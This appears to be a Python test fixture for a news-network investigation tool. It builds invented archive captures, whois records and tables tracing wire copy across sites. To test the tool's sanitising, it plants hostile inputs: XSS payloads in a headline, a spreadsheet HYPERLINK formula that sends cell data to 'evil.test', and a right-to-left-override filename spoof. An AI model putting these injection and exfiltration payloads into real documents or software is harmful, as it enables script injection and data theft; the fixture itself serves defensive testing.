"""A small invented investigation: real archive files and schema-valid tables, with hostile text in them."""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pandas as pd

from wiretrace import config, publish, schema
from wiretrace.evidence import EvidenceWriter, Exchange, Lookup, index, seal
from wiretrace.identity import make_id
from wiretrace.sentences import say

ROUNDS = ("round1", "round2")
NETWORK = ("nagoya-gate.example", "osaka-harbour.example", "tokyo-bay-times.example")
WIRE, HONEST_WIRE, SELLER, OUTLET, FRINGE = (
    "lantern-wire.example", "sakura-pr.example", "placemart.example", "nanto-daily.example", "saitama-leaf.example",
)  # fmt: skip
BLIND = "kobe-shut.example"
HOSTILE = "<script>alert('x')</script><img src=x onerror=alert(1)><svg onload=alert(2)><script>alert(3)</script></svg>"
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"click")'
BIDI = "safe\u202egnp.exe"

QUOTE_JA = "私たちの島の未来は、私たち自身が決めるべきだ"
QUOTE_EN = "The future of our islands must be decided by ourselves"
BODY_EN = (
    "NAHA, June 3, 2024 /Lantern Wire/ -- Residents gathered on the quay on Sunday to speak about the future of the islands.\n"
    f"“{QUOTE_EN},” said Professor Osato Taisuke of Nanto University.\n"
    "Organisers counted 312 people and announced a second meeting for July 14.\nSOURCE Lantern Wire"
)
BODY_JA = (
    "日曜日、島の将来について語る集会が岸壁で開かれ、住民が集まった。\n"
    f"「{QUOTE_JA}」と南都大学の大里康介教授は述べた。\n"
    "主催者によると参加者は312人で、二回目の集会は7月14日に予定されている。"
)
FLASK_EN = "Kettle & Co. today presented a flask that keeps tea warm for 31 hours.\nThe flask costs 4,800 yen.\nSOURCE Lantern Wire"
FLASK_JA = "ケトル社は本日、お茶を31時間温かく保つ水筒を発表した。価格は4800円。\n以下は日本語の翻訳です。ご希望に応じて調整します。"
HARBOUR = "港湾の拡張工事が始まった。市長は式典で、地域の発展に期待すると述べた。工期は十四か月。"


@dataclass(frozen=True)
class Made:
    """The folder of results, the tables and the investigation that they belong to."""

    folder: Path
    tables: dict[str, pd.DataFrame]
    investigation: config.Investigation


def page(title: str, body: str, masthead: str) -> bytes:
    paragraphs = "".join(f"<p>{line}</p>" for line in body.split("\n"))
    html = f"<!doctype html><title>{title}</title><header>{masthead}</header><article><h1>{title}</h1>{paragraphs}</article>"
    payload = html.encode()
    head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {len(payload)}\r\n\r\n"
    return head.encode() + payload


# publisher, path, title, body, masthead, language, published
ARTICLES = {
    "wire_quay": (WIRE, "/r/901", "Islanders gather to speak about their future", BODY_EN, "Lantern Wire", "en", "2024-06-03T01:00:00Z"),
    "tokyo_quay": (NETWORK[2], "/news/1", "島の未来を語る集会、岸壁で開催", BODY_JA, "东京湾时报", "ja", "2024-06-03T06:00:00Z"),
    "osaka_quay": (NETWORK[1], "/news/7", "島の未来を語る集会", BODY_JA, "大阪ハーバー", "ja", "2024-06-03T06:30:00Z"),
    "nagoya_quay": (NETWORK[0], "/p/3", HOSTILE + "島の未来", BODY_JA, "名古屋ゲート", "ja", "2024-06-04T00:00:00Z"),
    "wire_flask": (WIRE, "/r/902", "Kettle & Co. presents a flask", FLASK_EN, "Lantern Wire", "en", "2024-06-10T01:00:00Z"),
    "tokyo_flask": (NETWORK[2], "/news/2", "31時間温かい水筒", FLASK_JA, "东京湾时报", "ja", "2024-06-10T08:00:00Z"),
    "osaka_flask": (NETWORK[1], "/news/8", "31時間温かい水筒", FLASK_JA, "大阪ハーバー", "ja", "2024-06-10T08:05:00Z"),
    "tokyo_port": (NETWORK[2], "/news/3", "港湾の拡張工事始まる", HARBOUR, "东京湾时报", "ja", "2024-06-12T00:00:00Z"),
    "nagoya_port": (NETWORK[0], "/p/4", "港の拡張工事", HARBOUR, "名古屋ゲート", "ja", "2024-06-12T00:00:00Z"),
    "outlet_talk": (OUTLET, "/2024/1", "大里泰介教授に聞く", "「対話が大切だ」と大里泰介教授は話した。", "南都日報", "ja", "2024-05-02T00:00:00Z"),
}  # fmt: skip


def build(folder: Path) -> Made:
    """Write evidence below ``folder/evidence`` and make every table of the investigation but claims and changes."""
    captures, lookups = _evidence(folder / "evidence")
    at = {(r["snapshot"], r["address"]): r["capture_id"] for r in schema.records(captures)}
    rows: dict[str, list[dict[str, Any]]] = {name: [] for name in schema.tables()}
    _reading(rows, at)
    _observing(rows, at)
    _tracing(rows, at)
    _indicating(rows, at)
    tables = {name: schema.frame(name, made) for name, made in rows.items() if name not in ("captures", "lookups")}
    tables |= {"captures": captures, "lookups": lookups}
    for name in ("claims", "claim_evidence", "changes"):
        del tables[name]
    return Made(folder, tables, _investigation(folder))


def _investigation(folder: Path) -> config.Investigation:
    seeds = folder / "seeds.csv"
    roles = dict.fromkeys((*NETWORK, FRINGE, BLIND), "suspect") | {
        WIRE: "distributor",
        SELLER: "seller",
        OUTLET: "control",
    }
    lines = [f"https://{NETWORK[2]}/news/1,suspect,the article that began it"]
    lines += [
        f"https://{publisher}/,{role},{FORMULA if publisher == FRINGE else ''}".replace('"', "'").replace("&A1,", "")
        for publisher, role in roles.items()
    ]
    seeds.write_text("url,role,note\n" + "\n".join(lines) + "\n", encoding="utf-8")
    checks = folder / "verifications.csv"
    checks.write_text(
        "subject,finding,by,date,note\n大里泰介,was shown the print-out and reads it again,M. Example,2024-07-02,by telephone\n",
        encoding="utf-8",
    )
    return config.load(
        {
            "investigation": "quay",
            "question": "Who sent out the article on the quay meeting, and who runs the sites that carry it?",
            "results": str(folder.parent),
            "inputs": {"seeds": str(seeds), "verifications": [str(checks)]},
        }
    )


def _evidence(evidence: Path) -> tuple[pd.DataFrame, pd.DataFrame]:
    frames = []
    for number, label in enumerate(ROUNDS, start=1):
        time = f"2024-0{5 + number}-15T00:00:00Z"
        with EvidenceWriter(evidence / label / "000-of-001.warc.gz") as writer:
            for key, (publisher, path, title, body, masthead, *_) in ARTICLES.items():
                address = f"https://{publisher}{path}"
                if number == 2 and key == "osaka_quay":
                    gone = b"HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\nContent-Length: 4\r\n\r\ngone"
                    exchange = Exchange("http", "page", publisher, address + "?", time, gone)
                    writer.add(exchange, Lookup(publisher, "page", address, "absent", time, "HTTP 404"))
                    continue
                text = (
                    body + "\n第二回は中止された。発表は運営委員会による訂正である。市の広報も確認した。"
                    if number == 2 and key == "tokyo_port"
                    else body
                )
                exchange = Exchange("http", "page", publisher, address, time, page(title, text, masthead))
                writer.add(exchange, Lookup(publisher, "page", address, "found", time))
            for publisher in (*NETWORK, FRINGE):
                said = f"Domain Name: {publisher}\r\nRegistrant Organization: Lantern Culture Media Co.\r\n".encode()
                exchange = Exchange(
                    "whois", "whois", publisher, f"whois://whois.test/{publisher}", time, said, status="ok"
                )
                writer.add(exchange, Lookup(publisher, "whois", publisher, "found", time))
            catalogue = page("Outlets", "\n".join(f"{p} $29" for p in (*NETWORK, OUTLET)), "Placemart")
            writer.add(Exchange("http", "page", SELLER, f"https://{SELLER}/outlets", time, catalogue))
            writer.add_lookups(
                [
                    Lookup(BLIND, "page", f"https://{BLIND}/", "could_not_look", time, "timed out after 20 s"),
                    Lookup(FRINGE, "page", f"https://{FRINGE}/secret", "not_looked", time, "robots.txt disallows"),
                ]
            )
        seal(evidence, label)
        frames.append(index(evidence, label))
    captures, lookups = zip(*frames, strict=True)
    made = [pd.concat(parts, ignore_index=True) for parts in (captures, lookups)]
    return schema.frame("captures", schema.records(made[0])), schema.frame("lookups", schema.records(made[1]))


def article_id(key: str) -> str:
    publisher, path, *_ = ARTICLES[key]
    return make_id("a", publisher, f"https://{publisher}{path}")


def version_id(key: str, sequence: int = 1) -> str:
    return make_id("v", article_id(key), sequence)


def address(key: str) -> str:
    return f"https://{ARTICLES[key][0]}{ARTICLES[key][1]}"


def claims(tables: Any, investigation: Any) -> dict[str, pd.DataFrame]:
    """The tables of claims that are drafted from ``tables``."""
    return {name: schema.frame(name, rows) for name, rows in publish.claims(tables, investigation).items()}


def _reading(rows: dict[str, list[dict[str, Any]]], at: dict[tuple[str, str], str]) -> None:
    roles = dict.fromkeys((*NETWORK, FRINGE, BLIND), "suspect") | {
        WIRE: "distributor",
        SELLER: "seller",
        OUTLET: "control",
        HONEST_WIRE: "unlisted",
    }
    for publisher, role in roles.items():
        number = sum(a[0] == publisher for a in ARTICLES.values())
        note = FORMULA if publisher == FRINGE else ""
        rows["publishers"].append(
            {"publisher": publisher, "kind": "domain", "role": role, "name": BIDI if publisher == FRINGE else "", "languages": "ja",
             "articles": number, "pages": number, "first_capture": "2024-06-15T00:00:00Z", "last_capture": "2024-07-15T00:00:00Z", "note": note}
        )  # fmt: skip
    for key, (publisher, _, title, body, masthead, language, published) in ARTICLES.items():
        changed = key == "tokyo_port"
        for label in ROUNDS:
            capture = at.get((label, address(key)))
            if capture:
                rows["pages"].append(
                    {"capture_id": capture, "publisher": publisher, "address": address(key), "time": f"2024-0{6 + (label == 'round2')}-15T00:00:00Z",
                     "kind": "article", "title": title, "language": language, "encoding": "utf-8", "article_id": article_id(key), "chrome": masthead}
                )  # fmt: skip
        texts = [body] + (
            [body + "\n第二回は中止された。発表は運営委員会による訂正である。市の広報も確認した。"] if changed else []
        )
        for sequence, text in enumerate(texts, start=1):
            rows["article_versions"].append(
                {"version_id": version_id(key, sequence), "article_id": article_id(key), "sequence": sequence, "title": title, "text": text,
                 "text_digest": "sha256:" + hashlib.sha256(text.encode()).hexdigest(), "first_seen": f"2024-0{5 + sequence}-15T00:00:00Z",
                 "last_seen": "2024-07-15T00:00:00Z", "capture_id": at[ROUNDS[sequence - 1], address(key)], "kept": len(body) if sequence > 1 else None,
                 "added": len(text) - len(body) if sequence > 1 else None, "removed": 0 if sequence > 1 else None}
            )  # fmt: skip
        state = "deleted" if key == "osaka_quay" else "live"
        rows["articles"].append(
            {"article_id": article_id(key), "publisher": publisher, "address": address(key), "title": title, "language": language, "language_score": 0.99,
             "characters": len(texts[-1]), "release_like": "wire" in key, "published_earliest": published, "published_latest": published[:17] + "59Z",
             "published_clock": "json_ld", "first_seen": "2024-06-15T00:00:00Z", "last_seen": f"2024-0{6 if state == 'deleted' else 7}-15T00:00:00Z",
             "state": state, "versions": len(texts), "version_id": version_id(key, len(texts)), "source": "crawl"}
        )  # fmt: skip
    for outlet in (*NETWORK, OUTLET):
        rows["outlet_listings"].append(
            {"listing_id": make_id("x", outlet), "seller": SELLER, "outlet": outlet, "label": FORMULA if outlet == OUTLET else f"{outlet} $29",
             "price": "$29", "capture_id": at["round1", f"https://{SELLER}/outlets"]}
        )  # fmt: skip


def _observing(rows: dict[str, list[dict[str, Any]]], at: dict[tuple[str, str], str]) -> None:
    def observed(
        publisher: str, kind: str, value: str, source: str, capture: str, snapshots: str = "round1 round2"
    ) -> str:
        key = make_id("o", publisher, kind, value)
        rows["observations"].append(
            {"observation_id": key, "publisher": publisher, "kind": kind, "value": value, "state": "value", "first_seen": "2024-06-15T00:00:00Z",
             "last_seen": "2024-07-15T00:00:00Z", "snapshots": snapshots, "source": source, "rule_id": kind, "excerpt": f"{kind}: {value}", "capture_id": capture}
        )  # fmt: skip
        return key

    seen = {}
    for publisher in (*NETWORK, FRINGE):
        whois = at["round1", f"whois://whois.test/{publisher}"]
        seen[publisher, "registrant_org"] = observed(
            publisher, "registrant_org", "Lantern Culture Media Co.", "whois", whois
        )
    for publisher in NETWORK:
        shot = next(r["capture_id"] for r in rows["pages"] if r["publisher"] == publisher)
        seen[publisher, "adsense"] = observed(publisher, "adsense", "ca-pub-0000000000000042", "page", shot)
        observed(
            publisher,
            "created",
            f"2021-03-0{1 + (publisher == NETWORK[2])}",
            "whois",
            at["round1", f"whois://whois.test/{publisher}"],
        )
    observed(NETWORK[0], "ip", "192.0.2.7", "dns", "", "round1")
    observed(NETWORK[0], "ip", "198.51.100.9", "dns", "", "round2")
    observed(NETWORK[1], "etag", "aa", "headers", "", "round1")
    observed(NETWORK[1], "ga4", "G-0000000042", "page", "", "round1")
    pairs = [(a, b) for i, a in enumerate(NETWORK) for b in NETWORK[i + 1 :]] + [(NETWORK[0], FRINGE)]
    for a, b in pairs:
        weak = b == FRINGE
        link = make_id("b", a, b)
        rows["publisher_links"].append(
            {"link_id": link, "publisher_a": a, "publisher_b": b, "bits": 6.1 if weak else 24.5, "probability": 0.6 if weak else 0.9999,
             "tier": "circumstantial" if weak else "conclusive", "families": "registration" if weak else "registration tracker",
             "strongest": _shared("registrant's organisation" if weak else "AdSense account"), "spurious": "Two firms can bear one name." if weak else "",
             "evidence": 1 if weak else 2}
        )  # fmt: skip
        for kind, bits in (("registrant_org", 6.1),) if weak else (("adsense", 18.4), ("registrant_org", 6.1)):
            value = "Lantern Culture Media Co." if kind == "registrant_org" else "ca-pub-0000000000000042"
            rows["publisher_link_evidence"].append(
                {"evidence_id": make_id("e", link, kind), "link_id": link, "kind": kind, "value": value, "family": kind, "bits": bits, "full_bits": bits,
                 "background": 0.0, "carriers": 4, "observation_a": seen[a, kind], "observation_b": seen[b, kind]}
            )  # fmt: skip
    rows["networks"].append(
        {"network_id": "n-000000000001", "size": 4, "core": 3, "languages": "ja", "weakest_bits": 24.5, "operator": "Lantern Culture Media Co.",
         "operator_kind": "registrant_org", "operator_publishers": 3, "operator_confidence": "associative", "bursts": "2021-03-01: 3",
         "operator_observations": " ".join(seen[p, "registrant_org"] for p in NETWORK), "shared": say("network", number=3, list="3 conclusive", list2="tracking on 3, registrant on 3")}
    )  # fmt: skip
    for publisher in (*NETWORK, FRINGE):
        core = publisher != FRINGE
        other = NETWORK[1] if publisher == NETWORK[0] else NETWORK[0]
        rows["network_members"].append(
            {"network_id": "n-000000000001", "publisher": publisher, "standing": "core" if core else "fringe", "role": "suspect",
             "bits": 24.5 if core else 6.1, "link_id": make_id("b", *sorted((publisher, other))) if core else make_id("b", NETWORK[0], FRINGE),
             "registered": "2021-03-01"}
        )  # fmt: skip


def _tracing(rows: dict[str, list[dict[str, Any]]], at: dict[tuple[str, str], str]) -> None:
    stories = {
        "quay": ("wire_quay", ["wire_quay", "tokyo_quay", "osaka_quay", "nagoya_quay"]),
        "flask": ("wire_flask", ["wire_flask", "tokyo_flask", "osaka_flask"]),
        "port": ("", ["tokyo_port", "nagoya_port"]),
    }
    for story, (first, keys) in stories.items():
        story_id = make_id("y", story, size=12)
        lead = ARTICLES[first or keys[0]]
        rows["stories"].append(
            {"story_id": story_id, "title": lead[2], "articles": len(keys), "publishers": len({ARTICLES[k][0] for k in keys}), "languages": "en ja",
             "first_earliest": lead[6] if first else "", "first_latest": lead[6][:17] + "59Z" if first else "",
             "first_article": article_id(first) if first else "", "release_like": bool(first)}
        )  # fmt: skip
        for position, key in enumerate(keys, start=1):
            quality = "proven" if key == first else "claimed" if first else "doubtful"
            rows["story_members"].append(
                {"story_id": story_id, "article_id": article_id(key), "position": position if first else 1, "earliest": ARTICLES[key][6],
                 "latest": ARTICLES[key][6][:11] + "23:59:59Z", "clock": "json_ld", "clock_quality": quality,
                 "clock_note": "" if first else "the page says another day", "relation": "source" if key == first else "translation" if first else "unclear"}
            )  # fmt: skip
            _trace(rows, at, story_id, first, key)
    rows["distributors"] += [
        {
            "distributor": WIRE,
            "name": "Lantern Wire",
            "origin": "seed",
            "releases": 2,
            "traced": 5,
            "outlets": 3,
            "languages": "en",
            "median_delay_hours": 6.0,
            "sells": 0,
        },
    ]
    for publisher, keys in ((NETWORK[2], ("tokyo_quay", "tokyo_flask")), (NETWORK[1], ("osaka_quay", "osaka_flask"))):
        rows["publisher_distributors"].append(
            {"publisher": publisher, "distributor": WIRE, "releases": 2, "traced": 2, "elsewhere": 0, "only_here": 2, "verdict": "supplied_by",
             "statement": say("supplied", number=2, number2=2, site=publisher, number3=2, site2=WIRE, number4=0, number5=2, number6=2), "articles": " ".join(sorted(article_id(k) for k in keys))}
        )  # fmt: skip
    a, b = sorted((article_id("tokyo_quay"), article_id("osaka_quay")))
    rows["text_matches"].append(
        {"match_id": make_id("m", a, b), "article_a": a, "article_b": b, "kind": "verbatim", "share_a": 1.0, "share_b": 1.0, "shared": len(BODY_JA),
         "spans": schema.dump([[0, len(BODY_JA), 0, len(BODY_JA)]]), "score": 1.0, "method": "alignment"}
    )  # fmt: skip
    a, b = sorted((article_id("wire_quay"), article_id("tokyo_quay")))
    answering = [("312", "312", "number"), ("July 14", "7月14日", "date")]
    placed = [[x, y, kind, BODY_EN.index(x), BODY_JA.index(y)] for x, y, kind in answering]
    anchors = [row if a == article_id("wire_quay") else [row[1], row[0], row[2], row[4], row[3]] for row in placed]
    rows["text_matches"].append(
        {"match_id": make_id("m", a, b), "article_a": a, "article_b": b, "kind": "translated", "share_a": 0.9, "share_b": 0.9, "shared": 2,
         "spans": schema.dump([]), "anchors": schema.dump(anchors), "score": 2.1, "method": "anchors"}
    )  # fmt: skip
    added = "\n第二回は中止された。発表は運営委員会による訂正である。市の広報も確認した。"
    rows["version_changes"].append(
        {"span_id": make_id("e", "tokyo_port"), "article_id": article_id("tokyo_port"), "version_id": version_id("tokyo_port", 2),
         "before_id": version_id("tokyo_port"), "part": "text", "start_before": len(HARBOUR), "end_before": len(HARBOUR), "before": "",
         "start": len(HARBOUR), "end": len(HARBOUR) + len(added), "after": added}
    )  # fmt: skip


def _shared(kind: str) -> str:
    return say("shared_one", phrase=say("shared_value", phrase=kind, words="x", number=4, s=""))


def _trace(
    rows: dict[str, list[dict[str, Any]]], at: dict[tuple[str, str], str], story: str, first: str, key: str
) -> None:
    trace = make_id("r", story, key)
    base = {"trace_id": trace, "article_id": article_id(key), "story_id": story}
    if key == first:
        rows["traces"].append(
            base
            | {
                "rank": 0,
                "verdict": "is_source",
                "statement": say("trace_taken", sites=", ".join(NETWORK[:2]), site=WIRE),
            }
        )
    elif not first:
        rows["traces"].append(
            base | {"rank": 0, "verdict": "cannot_tell", "statement": say("trace_open", sites=NETWORK[0])}
        )
    else:
        said = say("trace_found", site=WIRE, phrases=say("credit", site=WIRE))
        rows["traces"].append(
            base
            | {
                "candidate": article_id(first),
                "candidate_publisher": WIRE,
                "rank": 1,
                "log_odds": 5.5,
                "verdict": "source_found",
                "statement": said,
            }
        )
        capture = at["round1", address(first)]
        parts = [
            ("credit", 3.0, say("credit", site=WIRE), "SOURCE Lantern Wire"),
            ("closeness", 1.0, say("closeness", number="90%"), ""),
        ]
        parts += (
            [("contradiction", -0.5, say("credit_other", site=HONEST_WIRE, site2=WIRE), "")]
            if key == "nagoya_quay"
            else []
        )
        for reason, odds, statement, excerpt in parts:
            rows["trace_evidence"].append(
                {"evidence_id": make_id("f", trace, reason), "trace_id": trace, "reason": reason, "log_odds": odds, "statement": statement, "excerpt": excerpt, "capture_id": capture}
            )  # fmt: skip


def _indicating(rows: dict[str, list[dict[str, Any]]], at: dict[tuple[str, str], str]) -> None:
    start = BODY_JA.index(QUOTE_JA)
    for key in ("tokyo_quay", "osaka_quay", "nagoya_quay"):
        rows["quotes"].append(
            {"quote_id": make_id("q", key), "article_id": article_id(key), "version_id": version_id(key), "language": "ja", "speaker": "大里康介教授", "person": "大里泰介",
             "words": QUOTE_JA, "start": start, "end": start + len(QUOTE_JA), "pattern": "ja-bracket", "occurrences": 3, "publishers": 3, "other_quotes": 1,
             "status": "only_here", "check": True, "reason": say("quote_copies")}
        )  # fmt: skip
    rows["names"].append(
        {"name_id": make_id("w", "大里康介"), "written": "大里康介", "person": "大里泰介", "reading": "オオサトタイスケ", "status": "same_reading", "listed_by": "the investigation's list of names",
         "articles": " ".join(sorted(article_id(k) for k in ("tokyo_quay", "osaka_quay", "nagoya_quay"))), "publishers": 3,
         "excerpt": "南都大学の大里康介教授", "capture_id": at["round1", address("tokyo_quay")]}
    )  # fmt: skip
    residue = "ご希望に応じて調整します"
    common = {
        "context": "plain",
        "points_to": "a chat tool",
        "caveat": "quoted chats; articles about them",
        "family": "assistant_phrase",
        "around": FLASK_JA[-30:],
    }
    for key, counts in (("tokyo_flask", True), ("osaka_flask", True), ("outlet_talk", False)):
        rows["ai_indicators"].append(
            {"indicator_id": make_id("s", key), "publisher": ARTICLES[key][0], "article_id": article_id(key), "version_id": version_id(key),
             "capture_id": at["round1", address(key)], "rule_id": "ja-offer-to-adjust", "strength": "conclusive", "place": "text",
             "start": FLASK_JA.index(residue), "end": FLASK_JA.index(residue) + len(residue), "excerpt": residue, "counts": counts,
             "reason": "" if counts else "it stands within quotation marks"} | common
        )  # fmt: skip
    rows["origin_indicators"].append(
        {"indicator_id": make_id("s", "mast"), "publisher": NETWORK[2], "capture_id": at["round1", address("tokyo_quay")], "rule_id": "simplified-glyph",
         "family": "glyph", "strength": "strong", "place": "chrome", "start": 0, "end": 5, "excerpt": "东京湾时报", "context": "plain", "counts": True,
         "points_to": "Simplified Chinese", "caveat": "themes made in China are sold and shared everywhere"}
    )  # fmt: skip
    rows["headline_phrases"].append(
        {"article_id": article_id("nagoya_quay"), "phrase": HOSTILE, "missing": "script", "capture_id": at["round1", address("nagoya_quay")]}
    )  # fmt: skip
